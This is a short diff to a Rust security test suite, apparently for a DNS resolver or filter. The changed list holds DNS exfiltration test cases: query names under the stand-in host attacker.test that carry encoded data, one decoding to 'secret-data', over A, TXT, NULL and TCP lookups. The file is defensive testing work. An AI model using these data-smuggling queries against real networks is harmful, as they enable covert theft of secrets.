@@ -388,7 +388,7 @@ fn attack_suite() {
         (n == 0 && q >= 2, format!("{o}; private packets {n}; authoritative queries {q}"))
     });
     for (name, qname, qtype, transport, edns) in [
-        ("dns-exfil-query-name", "c2VjcmV0LWRhdGE.attacker.test", "A", "udp", "no"),
+        ("dns-exfil-query-name", "c2vjcmv0lwrhdge.attacker.test", "A", "udp", "no"),
         ("dns-exfil-txt", "chunk1.attacker.test", "TXT", "udp", "no"),
         ("dns-exfil-null", "chunk2.attacker.test", "NULL", "udp", "no"),
         ("dns-exfil-tcp", "chunk3.attacker.test", "A", "tcp", "no"),
